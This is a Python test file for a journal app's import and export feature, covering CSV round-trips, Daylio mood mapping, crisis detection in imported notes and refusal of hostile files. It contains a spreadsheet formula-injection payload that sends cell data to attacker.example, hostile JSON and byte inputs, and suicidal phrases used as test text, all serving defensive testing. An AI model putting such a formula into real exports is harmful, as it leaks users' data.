"""A person downloads their journal and brings history in from a file on the page: our CSV
round-trips, formulas in it stay inert in a spreadsheet, Daylio's moods are mapped by the person,
every bad row is named and nothing added, crisis words in an imported history bring the crisis
lines, a long history is added in the background behind a progress page, and hostile files are
refused with a message, never a server error."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from crossroads.accounts.service.accounts import find_by_email
from crossroads.journal.rules.exchange import entries_from_daylio
from crossroads.journal.service import imports as journal_imports
from crossroads.journal.service.entries import BATCH
from crossroads.journal.service.imports import AT_ONCE_MOST, MOST_ENTRIES
from crossroads.journal.service.transfer import MAX_FILE_BYTES
from crossroads.platform.runtime import Runtime
from crossroads.web.auth import SESSION_COOKIE
from crossroads.web.limits import LARGER
from tests.conftest import FormClient
from tests.factories import browser_session, make_person

NOW = datetime.now(UTC)
DAYLIO = (
    "full_date,date,weekday,time,mood,activities,note_title,note\n"
    "2025-03-01,March 1,Saturday,21:30,rad,walk,,\n"
    "2025-03-02,March 2,Sunday,20:00,meh,friends,,\n"
)


@pytest.fixture
def signed_in(client: FormClient, runtime: Runtime) -> FormClient:
    with runtime.database.transaction() as session:
        person = make_person(session, "writer@example.org")
        client.cookies.set(
            SESSION_COOKIE, browser_session(session, runtime.master_keys, person, NOW)
        )
    return client


def bring_in(client: FormClient, body: str | bytes, file_format: str, mood_map: str = "") -> Any:
    return client.post(
        "/journal/import",
        data={"format": file_format, "mood_map": mood_map},
        files={"file": ("history.csv", body if isinstance(body, bytes) else body.encode(), "")},
        follow_redirects=False,
    )


def daylio_days(count: int, note: str = "A walk") -> str:
    rows = [
        f"20{20 + n // 365}-{n % 12 + 1:02d}-{n % 28 + 1:02d},x,Monday,21:30,meh,walk,,{note}"
        for n in range(count)
    ]
    return DAYLIO.splitlines()[0] + "\n" + "\n".join(rows) + "\n"


def test_our_csv_goes_out_and_comes_back_in(signed_in: FormClient) -> None:
    signed_in.post("/journal", data={"mood": "6", "coping": "rest", "note": "A bath"})
    exported = signed_in.get("/journal/export.csv")

    response = bring_in(signed_in, exported.text, "csv")

    assert exported.headers["content-type"].startswith("text/csv")
    assert response.headers["location"] == "/journal/transfer?imported=1"
    assert signed_in.get("/journal").text.count("A bath") == 2


def test_daylio_moods_are_mapped_by_the_person(signed_in: FormClient) -> None:
    response = bring_in(signed_in, DAYLIO, "daylio", "rad=10, meh=5")

    assert response.status_code == 303
    page = signed_in.get("/journal").text
    assert "Mood 10 of 10" in page
    assert "Mood 5 of 10" in page


def test_an_unmapped_mood_is_named_and_nothing_added(signed_in: FormClient) -> None:
    response = bring_in(signed_in, DAYLIO, "daylio", "rad=10")

    assert response.status_code == 422
    assert "meh" in response.text
    assert "Nothing was added" in response.text
    assert "Mood 10 of 10" not in signed_in.get("/journal").text


def test_a_plan_in_an_imported_note_brings_the_crisis_page(signed_in: FormClient) -> None:
    history = DAYLIO.replace("walk,,", "walk,,I'm going to end my life tonight")

    response = bring_in(signed_in, history, "daylio", "rad=10, meh=5")

    assert "Before anything else" in response.text


def test_a_wish_to_die_in_an_imported_note_asks_the_questions(signed_in: FormClient) -> None:
    history = DAYLIO.replace("walk,,", "walk,,I want to end my life")

    response = bring_in(signed_in, history, "daylio", "rad=10, meh=5")

    assert "Can we ask you a few questions?" in response.text
    assert "imported=" in response.text


def test_a_formula_goes_out_inert_and_comes_back_as_written(signed_in: FormClient) -> None:
    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Help")'
    signed_in.post("/journal", data={"mood": "6", "coping": "rest", "note": formula})

    exported = signed_in.get("/journal/export.csv").text
    response = bring_in(signed_in, exported, "csv")

    assert "'" + formula in cells_of(exported)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells_of(exported))
    assert response.status_code == 303
    assert cells_of(signed_in.get("/journal/export.csv").text).count("'" + formula) == 2


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_long_history_is_added_behind_a_progress_page(signed_in: FormClient) -> None:
    count = AT_ONCE_MOST + BATCH

    response = bring_in(signed_in, daylio_days(count), "daylio", "meh=5")

    # The test client runs the background work before it answers; a server answers first.
    assert response.status_code == 303
    progress = response.headers["location"]
    assert progress.startswith("/journal/imports/")
    done = signed_in.get(progress, follow_redirects=False)
    assert done.headers["location"] == f"/journal/transfer?imported={count}"
    assert signed_in.get("/journal").text.count("Mood 5 of 10") >= 1


def test_the_progress_page_shows_the_count_without_scripts(
    signed_in: FormClient, runtime: Runtime
) -> None:
    with runtime.database.reading() as session:
        writer = find_by_email(session, "writer@example.org")
    assert writer is not None
    entries = entries_from_daylio(daylio_days(AT_ONCE_MOST + 1), {"meh": 5}, UTC)
    brought = journal_imports.bring_in(runtime.database, runtime.master_keys, writer, entries, NOW)
    here = f"/journal/imports/{brought.import_id}"

    waiting = signed_in.get(here)  # nobody was adding it: this look takes it up
    still = signed_in.get(here + "?still=1", follow_redirects=False)

    assert f"Added 0 of {AT_ONCE_MOST + 1} entries" in waiting.text
    assert '<meta http-equiv="refresh" content="5">' in waiting.text
    assert "Stop checking by itself" in waiting.text
    assert still.headers["location"] == f"/journal/transfer?imported={AT_ONCE_MOST + 1}"


def test_a_crisis_note_in_a_long_history_ends_on_the_crisis_page(signed_in: FormClient) -> None:
    body = daylio_days(AT_ONCE_MOST + 1).replace(
        "walk,,A walk\n", "walk,,I'm going to end my life tonight\n", 1
    )

    response = bring_in(signed_in, body, "daylio", "meh=5")
    page = signed_in.get(response.headers["location"])

    assert "Before anything else" in page.text


def test_someone_elses_import_is_not_found(signed_in: FormClient, runtime: Runtime) -> None:
    response = bring_in(signed_in, daylio_days(AT_ONCE_MOST + 1), "daylio", "meh=5")
    with runtime.database.transaction() as session:
        other = make_person(session, "other@example.org")
        token = browser_session(session, runtime.master_keys, other, NOW)
    signed_in.cookies.set(SESSION_COOKIE, token)

    assert signed_in.get(response.headers["location"]).status_code == 404


JSON_ENTRY = '{"at": "2025-03-01T21:30:00+00:00", "mood": %s}'


@pytest.mark.parametrize(
    ("body", "file_format", "mood_map", "message"),
    [
        ("[" * 5000 + "]" * 5000, "json", "", "nested too deeply"),
        ("[" + JSON_ENTRY % ("7" * 5000) + "]", "json", "", "longer than 20 digits"),
        ("[" + JSON_ENTRY % "1e400" + "]", "json", "", "too long or too large"),
        ("[" + JSON_ENTRY % "NaN" + "]", "json", "", "NaN is not a number"),
        ('[{"note": "\\ud83d"}]', "json", "", "half of a character"),
        (DAYLIO, "daylio", "rad=10, meh=" + "5" * 5000, "use numbers from 0 to 10"),
        (b"full_date,time,mood\n\xff\xfe,21:30,rad\n", "daylio", "rad=10", "not UTF-8"),
        (b"x" * (MAX_FILE_BYTES + 1), "csv", "", "larger than 2,048 KB"),
        ("x", "spreadsheet", "", "choose our CSV, our JSON or Daylio"),
    ],
)
def test_a_hostile_file_is_refused_with_a_message(
    signed_in: FormClient, body: str | bytes, file_format: str, mood_map: str, message: str
) -> None:
    response = bring_in(signed_in, body, file_format, mood_map)

    assert response.status_code == 422
    assert message in response.text


def test_a_csv_mood_of_five_thousand_digits_is_named_with_its_row(
    signed_in: FormClient,
) -> None:
    exported = signed_in.get("/journal/export.csv").text.splitlines()[0]
    row = "2025-03-01T21:30:00+00:00,entry," + "7" * 5000 + ",,,,,,,false,,,"

    response = bring_in(signed_in, exported + "\n" + row + "\n", "csv")

    assert response.status_code == 422
    assert "Row 2: mood: write a number" in response.text


def test_more_entries_than_the_page_takes_are_refused_with_the_limit(
    signed_in: FormClient,
) -> None:
    response = bring_in(signed_in, daylio_days(MOST_ENTRIES + 1), "daylio", "meh=5")

    assert response.status_code == 422
    assert f"bring in up to {MOST_ENTRIES:,} at a time" in response.text


def test_a_body_far_over_the_limit_is_cut_off_before_it_is_read(signed_in: FormClient) -> None:
    response = bring_in(signed_in, b"x" * (LARGER["/journal/import"] + 1), "csv")

    assert response.status_code == 413
